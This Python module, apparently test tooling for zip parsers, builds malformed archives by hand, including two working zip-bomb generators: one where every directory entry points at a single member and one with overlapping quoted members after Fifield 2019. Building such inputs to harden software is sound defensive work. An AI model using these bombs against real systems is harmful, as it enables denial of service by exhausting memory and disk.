"""Zips no ordinary program makes, byte by byte."""

from __future__ import annotations

import struct
import zlib
from dataclasses import dataclass, replace

LOCAL = struct.Struct("<4s5H3L2H")
CENTRAL = struct.Struct("<4s6H3L5H2L")
END = struct.Struct("<4s4H2LH")
END64 = struct.Struct("<4sQ2H2L4Q")
LOCATOR64 = struct.Struct("<4sLQL")


@dataclass(frozen=True)
class Entry:
    """One member as a zip's directory announces it."""

    name: bytes
    packed: bytes
    crc: int
    size: int
    method: int = 8
    flags: int = 0
    attributes: int = 0
    offset: int | None = None


def deflated(name: bytes, body: bytes) -> Entry:
    """An honest deflated member."""
    stream = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    return Entry(name, stream.compress(body) + stream.flush(), zlib.crc32(body), len(body))


def zip_bytes(entries: list[Entry], count: int | None = None) -> bytes:
    """A zip of members; one with an offset has no bytes of its own but points at another's."""
    body, directory = b"", b""
    for entry in entries:
        offset = len(body) if entry.offset is None else entry.offset
        common = (entry.flags, entry.method, 0, 33, entry.crc, len(entry.packed), entry.size, len(entry.name), 0)
        if entry.offset is None:
            body += LOCAL.pack(b"PK\x03\x04", 20, *common) + entry.name + entry.packed
        directory += CENTRAL.pack(b"PK\x01\x02", 20, 20, *common, 0, 0, 0, entry.attributes, offset) + entry.name
    total = len(entries) if count is None else count
    return body + directory + END.pack(b"PK\x05\x06", 0, 0, total, total, len(directory), len(body), 0)


def large_file_zip(entries: list[Entry], magic: bytes = b"PK\x06\x06") -> bytes:
    """The same with the end record for large files in front of the small one."""
    small = zip_bytes(entries)
    body, end = small[: -END.size], END.unpack(small[-END.size :])
    count, size, start = end[4], end[5], end[6]
    record = END64.pack(magic, END64.size - 12, 45, 45, 0, 0, count, count, size, start)
    locator = LOCATOR64.pack(b"PK\x06\x07", 0, len(body), 1)
    return body + record + locator + END.pack(b"PK\x05\x06", 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0)


def full_overlap(copies: int, size: int) -> bytes:
    """A bomb: every directory entry points at one and the same member."""
    first = deflated(b"a", b"\0" * size)
    return zip_bytes([first, *[replace(first, offset=0)] * (copies - 1)])


def quoted_overlap(copies: int, size: int) -> bytes:
    """A bomb: every member quotes the next one's header in a stored block and goes on with its bytes (Fifield 2019)."""
    kernel = deflated(b"%06d" % (copies - 1), b"\0" * size)
    entries, plain = [kernel], b"\0" * size
    for number in range(copies - 2, -1, -1):
        following = entries[0]
        header = LOCAL.pack(b"PK\x03\x04", 20, 0, 8, 0, 33, following.crc, len(following.packed), following.size, 6, 0)
        quote = header + following.name
        plain = quote + plain
        packed = struct.pack("<BHH", 0, len(quote), 0xFFFF ^ len(quote)) + quote + entries[0].packed
        entries.insert(0, Entry(b"%06d" % number, packed, zlib.crc32(plain), len(plain)))
    whole = zip_bytes(entries[:1])
    offsets = [number * (LOCAL.size + 6 + 5) for number in range(copies)]
    body = whole[: whole.rfind(b"PK\x01\x02")]
    directory = b"".join(
        CENTRAL.pack(b"PK\x01\x02", 20, 20, 0, 8, 0, 33, one.crc, len(one.packed), one.size, 6, 0, 0, 0, 0, 0, offset)
        + one.name
        for one, offset in zip(entries, offsets, strict=True)
    )
    return body + directory + END.pack(b"PK\x05\x06", 0, 0, copies, copies, len(directory), len(body), 0)
